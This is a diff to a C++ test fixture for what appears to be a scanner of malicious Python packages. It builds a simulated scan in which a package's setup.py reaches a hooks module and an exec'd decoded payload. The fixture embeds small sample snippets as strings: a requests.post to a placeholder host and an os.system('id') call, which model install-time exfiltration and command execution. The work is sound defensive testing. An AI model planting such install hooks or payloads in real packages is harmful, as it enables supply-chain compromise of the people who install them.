@@ -86,4 +86,32 @@ inline mph::ScanResult makeScan() {
     return scan;
 }
 
+// The same scan, where setup.py also runs more than itself (design 2.8): its package's evil_pkg/_hooks.py (posting
+// to the network at its line 3) and, through the exec at its line 8, a payload decoded from a literal (layer 1, whose
+// line 2 runs os.system).
+inline const std::string kHooksPy = "import requests\n\nrequests.post('https://x.invalid', data=b'')\n";
+inline const std::string kLayerPy = "import os\nos.system('id')\n";
+
+inline mph::ScanResult makeScanWithReach() {
+    mph::ScanResult scan = makeScan();
+    mph::Package &batch = scan.packages[0];
+    batch.root = "Evil_Pkg.Name-1.0/";
+    batch.modules = {{"Evil_Pkg.Name-1.0/evil_pkg/_hooks.py", kHooksPy}};
+    const mph::CallToken exec = scan.sequences[0].calls[4];
+    const std::vector<mph::CodeSource> sources = {
+        {"Evil_Pkg.Name-1.0/setup.py", 0, -1, 0, 0, "", 5},
+        {"Evil_Pkg.Name-1.0/evil_pkg/_hooks.py", 0, -1, 0, 0, "", 1},
+        {"Evil_Pkg.Name-1.0/setup.py", 1, 0, exec.begin, exec.end, kLayerPy, 1},
+    };
+    mph::CallToken post = token(kHooksPy, "requests.post", "requests.post");
+    post.source = 1;
+    mph::CallToken system = token(kLayerPy, "os.system", "os.system");
+    system.source = 2;
+    scan.sequences[0].calls.push_back(post);
+    scan.sequences[0].calls.push_back(system);
+    scan.sequences[0].sources = sources;
+    scan.scripts[0].sources = sources;
+    return scan;
+}
+
 } // namespace fixture
